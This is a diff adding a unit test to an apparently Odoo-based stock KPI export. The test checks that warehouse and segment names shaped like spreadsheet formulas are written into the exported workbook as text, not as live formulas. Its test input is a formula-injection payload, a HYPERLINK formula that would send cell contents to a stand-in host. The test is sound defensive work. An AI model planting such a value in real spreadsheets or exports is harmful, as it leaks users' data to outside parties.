@@ -45,6 +45,36 @@ class TestKpiWorkbook(KpiCommon):
         kinds = sorted(type(c).__name__ for c in inventory._charts)
         self.assertEqual(kinds, ["BarChart", "LineChart"])
 
+    def test_workbook_writes_formula_like_names_as_text(self):
+        evil = '=HYPERLINK("http://x"&B2,"y")'
+        self.wh.sudo().name = evil
+        self.segment.sudo().name = evil
+        self.run_march()
+        wizard = (
+            self.env["stock.kpi.export.wizard"]
+            .with_user(self.finance)
+            .create(
+                {
+                    "date_from": MONTH_START,
+                    "date_to": MONTH_END,
+                    "company_ids": [(6, 0, self.company.ids)],
+                }
+            )
+        )
+        wizard.action_export()
+        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(wizard.file_data)))
+        hits = 0
+        for sheet in book.worksheets:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    self.assertNotEqual(
+                        cell.data_type, "f", f"{sheet.title}!{cell.coordinate}: {cell.value}"
+                    )
+                    if isinstance(cell.value, str) and "HYPERLINK" in cell.value:
+                        self.assertEqual(cell.data_type, "s")
+                        hits += 1
+        self.assertTrue(hits)
+
     def test_scorecard_export(self):
         self.run_march()
         rows = self.Snapshot.with_user(self.finance).search(
